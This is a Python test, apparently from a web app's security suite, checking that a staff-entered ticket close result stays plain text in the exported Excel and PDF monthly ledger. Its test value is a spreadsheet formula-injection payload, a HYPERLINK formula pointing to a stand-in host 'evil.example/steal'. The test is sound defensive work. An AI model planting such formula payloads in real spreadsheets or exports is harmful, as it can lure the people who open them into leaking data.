"""What staff type reaches the ledger (台账) another person opens: a close result written as a
spreadsheet formula or as PDF markup stays text in the workbook and the printable PDF."""

from __future__ import annotations

import io
from zoneinfo import ZoneInfo

import openpyxl

from tests.attacks.arena import Arena

RESULT = '=HYPERLINK("http://evil.example/steal","<b>点此查看</b>")'


def test_a_close_result_written_as_a_formula_or_markup_stays_text_in_the_ledger(arena: Arena) -> None:
    number = arena.open_ticket("2栋楼道里的下水道堵了，臭了好几天", "ledger-formula")
    client, token = arena.staff("by-sec-01"), arena.csrf("by-sec-01")
    assert client.post(f"/console/tickets/{number}/close", data={"result": RESULT, "csrf_token": token}
                       ).status_code == 303
    month = arena.clock().astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m")

    workbook = client.get("/console/ledger.xlsx", params={"month": month})
    document = client.get("/console/ledger.pdf", params={"month": month})

    assert (workbook.status_code, document.status_code) == (200, 200)
    cells = [cell for sheet in openpyxl.load_workbook(io.BytesIO(workbook.content)) for row in sheet.iter_rows()
             for cell in row if cell.value == RESULT]
    assert cells != []
    assert {cell.data_type for cell in cells} == {"s"}
    assert document.content.startswith(b"%PDF")
